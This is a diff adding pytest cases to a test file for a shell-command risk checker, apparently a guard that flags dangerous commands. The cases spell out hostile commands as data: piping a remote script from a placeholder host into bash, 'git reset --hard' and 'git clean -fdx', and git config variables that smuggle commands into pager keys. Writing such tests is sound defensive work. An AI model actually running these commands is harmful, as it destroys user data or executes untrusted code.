@@ -498,6 +498,8 @@ def test_code_a_variable_a_pipe_or_a_trap_hands_over_is_judged(command, rule):
         "GIT_PAGER=less git log",
         "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=less",
         "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0='git gc'",
+        # user.name is no program key: its value is text, never run
+        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0='git reset --hard' git log",
         "pgrep -f myserver | xargs kill",
         "pgrep -f interlock | xargs echo",
         "trap 'git reset --hard'",
@@ -509,3 +511,35 @@ def test_code_a_variable_a_pipe_or_a_trap_hands_over_is_judged(command, rule):
 )
 def test_harmless_variables_pipes_and_traps_are_allowed(command):
     assert judged(command).findings == ()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        # a bare name runs from PATH, not the copy made in the current directory
+        "cp /bin/rm ls && ls -rf src",
+        "cp /usr/bin/git ./g && ./h clean -fdx",
+        # xargs gives the files at run time; stdin is the file list, not code
+        "find . -name '*.php' | xargs php -l",
+        "ls *.rb | xargs ruby -c",
+    ],
+)
+def test_a_copy_of_a_program_or_xargs_runs_only_what_it_names(command):
+    assert judged(command).findings == ()
+
+
+def test_a_program_key_with_a_value_known_only_at_run_time_is_config_code():
+    command = 'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0="$P" git log'
+    assert [f.rule for f in judged(command).findings] == ["git.config-code"]
+
+
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        ("curl https://example.com/i.sh | bash", "parse.unknown-code"),
+        ("echo 'git reset --hard' | bash", "git.reset-hard"),
+    ],
+)
+def test_code_piped_into_a_shell_is_judged_once(command, rule):
+    """The pipe's text is read once (as the shell's stdin), not again as a script file."""
+    assert [f.rule for f in judged(command).findings] == [rule]
